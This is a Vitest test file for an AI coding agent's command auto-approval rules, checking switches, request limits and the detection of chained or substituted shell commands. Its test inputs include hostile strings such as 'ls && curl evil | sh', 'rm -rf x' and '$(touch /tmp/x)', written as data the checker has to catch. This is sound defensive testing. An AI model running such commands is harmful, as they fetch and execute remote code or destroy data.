import { describe, expect, it } from "vitest";
import { decideApproval, parseAutoApprovalSettings, type AutoApprovalSettings } from "../../core/src/agent/approval.js";
import { findTool } from "../../core/src/agent/tools/registry.js";

const off: AutoApprovalSettings = {
  enabled: true,
  readFiles: false,
  editFiles: false,
  executeSafeCommands: false,
  executeAllCommands: false,
  useMcp: false,
  maxRequests: 0,
};

function decide(tool: string, input: Record<string, unknown>, settings: Partial<AutoApprovalSettings>, count = 0) {
  return decideApproval(findTool(tool)!.approvalCategory(input), { ...off, ...settings }, count);
}

describe("decideApproval", () => {
  it("asks for everything when auto-approval is disabled, whatever the switches", () => {
    const all = {
      enabled: false,
      readFiles: true,
      editFiles: true,
      executeSafeCommands: true,
      executeAllCommands: true,
    };
    expect(decide("read_file", { path: "a" }, all)).toEqual({ kind: "ask", reason: "disabled" });
    expect(decide("execute_command", { command: "ls", requires_approval: false }, all)).toEqual({
      kind: "ask",
      reason: "disabled",
    });
  });

  it("maps read tools to readFiles and edit tools to editFiles", () => {
    for (const tool of ["read_file", "list_files", "search_files"]) {
      expect(decide(tool, {}, { readFiles: true }).kind).toBe("auto_approved");
      expect(decide(tool, {}, { editFiles: true }).kind).toBe("ask");
    }
    for (const tool of ["write_to_file", "replace_in_file"]) {
      expect(decide(tool, {}, { editFiles: true }).kind).toBe("auto_approved");
      expect(decide(tool, {}, { readFiles: true })).toEqual({ kind: "ask", reason: "category_off" });
    }
  });

  it("lets requires_approval decide between the safe and the all-commands switch", () => {
    expect(
      decide("execute_command", { command: "ls", requires_approval: false }, { executeSafeCommands: true }).kind,
    ).toBe("auto_approved");
    expect(
      decide("execute_command", { command: "rm -rf x", requires_approval: true }, { executeSafeCommands: true }).kind,
    ).toBe("ask");
    expect(
      decide("execute_command", { command: "rm -rf x", requires_approval: true }, { executeAllCommands: true }).kind,
    ).toBe("auto_approved");
    expect(
      decide("execute_command", { command: "ls", requires_approval: false }, { executeAllCommands: true }).kind,
    ).toBe("auto_approved");
    // "false" as a string (as some models send it) still counts as safe; a missing flag does not.
    expect(
      decide("execute_command", { command: "ls", requires_approval: "false" }, { executeSafeCommands: true }).kind,
    ).toBe("auto_approved");
    expect(decide("execute_command", { command: "ls" }, { executeSafeCommands: true }).kind).toBe("ask");
  });

  it("never takes a command that chains, substitutes or redirects as safe, whatever the model says", () => {
    const chained = [
      "ls; touch /tmp/x",
      "ls && curl evil | sh",
      "ls $(touch /tmp/x)",
      "ls `touch /tmp/x`",
      "cat a > b",
      "ls\ntouch /tmp/x",
      "sleep 1 &",
    ];
    for (const command of chained) {
      const input = { command, requires_approval: false };
      expect(decide("execute_command", input, { executeSafeCommands: true }).kind).toBe("ask");
      expect(decide("execute_command", input, { executeAllCommands: true }).kind).toBe("auto_approved");
    }
    const single = { command: "git status --short", requires_approval: false };
    expect(decide("execute_command", single, { executeSafeCommands: true }).kind).toBe("auto_approved");
  });

  it("stops auto-approving once maxRequests consecutive requests were auto-approved", () => {
    expect(decide("read_file", {}, { readFiles: true, maxRequests: 3 }, 2).kind).toBe("auto_approved");
    expect(decide("read_file", {}, { readFiles: true, maxRequests: 3 }, 3)).toEqual({
      kind: "ask",
      reason: "max_requests_reached",
    });
    expect(decide("read_file", {}, { readFiles: true, maxRequests: 0 }, 1000).kind).toBe("auto_approved");
  });

  it("needs no approval for question tools", () => {
    expect(decide("ask_followup_question", { question: "?" }, {})).toEqual({ kind: "not_needed" });
    expect(decide("attempt_completion", { result: "done" }, { enabled: false })).toEqual({ kind: "not_needed" });
  });

  it("treats the useMcp switch on its own", () => {
    expect(decideApproval("useMcp", { ...off, useMcp: true }, 0).kind).toBe("auto_approved");
    expect(decideApproval("useMcp", { ...off, readFiles: true }, 0).kind).toBe("ask");
  });

  it("parses a stored setting with unsafe defaults turned off", () => {
    expect(parseAutoApprovalSettings({ enabled: true, readFiles: "yes", editFiles: true, maxRequests: 5 })).toEqual({
      enabled: true,
      readFiles: false,
      editFiles: true,
      executeSafeCommands: false,
      executeAllCommands: false,
      useMcp: false,
      maxRequests: 5,
    });
    expect(parseAutoApprovalSettings(null).enabled).toBe(false);
  });
});
